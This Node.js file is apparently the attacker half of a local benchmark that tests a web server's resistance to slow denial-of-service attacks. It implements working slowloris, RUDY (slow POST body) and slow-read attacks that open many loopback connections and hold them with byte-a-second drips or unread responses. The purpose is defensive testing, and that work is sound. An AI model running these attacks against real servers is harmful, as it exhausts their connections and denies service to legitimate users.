'use strict';
// The attacker of src/attack-bench.js (its own process, so it does not slow the legitimate prober's loop).
// Usage (forked): attack-client.js <slowloris|rudy|slowread> <port> <connections> <seconds> [<source address>]
// The source address (default 127.0.0.2): the attacker is another machine than the legitimate client
// (127.0.0.1), as the threat is; pass 127.0.0.1 to attack from the client's own address.
// Every connection is re-opened as soon as the server closes it (at most `rate` new connections a second):
//   slowloris  a request head never finished: one header line of 1 byte more every second
//   rudy       POST /up with Content-Length 500,000 (under Light's 512 KiB limit), then 1 body byte a second
//   slowread   GET /big-5m.bin, and the response is never read (the socket stays paused; opened once: a
//              paused socket does not see the server's close)
// Reports { opened, closedByServer } over IPC when done.
const net = require('node:net');

const [kind, portS, nS, secsS, source = '127.0.0.2'] = process.argv.slice(2);
const port = Number(portS);
const n = Number(nS);
const until = Date.now() + Number(secsS) * 1000;
const RATE = 400; // new connections a second, at most
let opened = 0;
let closedByServer = 0;
let live = 0;
let budget = RATE / 10;
const socks = new Set();

function open() {
  if (Date.now() >= until || budget <= 0) return false;
  budget--;
  opened++;
  live++;
  const s = net.connect({ port, host: '127.0.0.1', localAddress: source });
  socks.add(s);
  s.on('error', () => undefined);
  s.on('connect', () => {
    if (kind === 'slowloris') s.write('GET / HTTP/1.1\r\nHost: x\r\n');
    else if (kind === 'rudy') s.write('POST /up HTTP/1.1\r\nHost: x\r\nContent-Length: 500000\r\n\r\n');
    else { s.write('GET /big-5m.bin HTTP/1.1\r\nHost: x\r\n\r\n'); s.pause(); }
  });
  s.on('close', () => {
    socks.delete(s);
    live--;
    if (Date.now() < until) closedByServer++;
  });
  return true;
}

const tick = setInterval(() => {
  budget = RATE / 10;
  // slowread is a burst: a paused socket never sees the server's close, so it is not re-opened.
  if (kind === 'slowread' && opened >= n) return;
  while (live < n && open()) { /* refill */ }
}, 100);
const drip = setInterval(() => {
  for (const s of socks) {
    if (!s.writable || s.connecting) continue;
    if (kind === 'slowloris') s.write('X');
    else if (kind === 'rudy') s.write('a');
  }
}, 1000);
setTimeout(() => {
  clearInterval(tick);
  clearInterval(drip);
  for (const s of socks) s.destroy();
  process.send({ opened, closedByServer }, () => process.exit(0));
}, Number(secsS) * 1000);
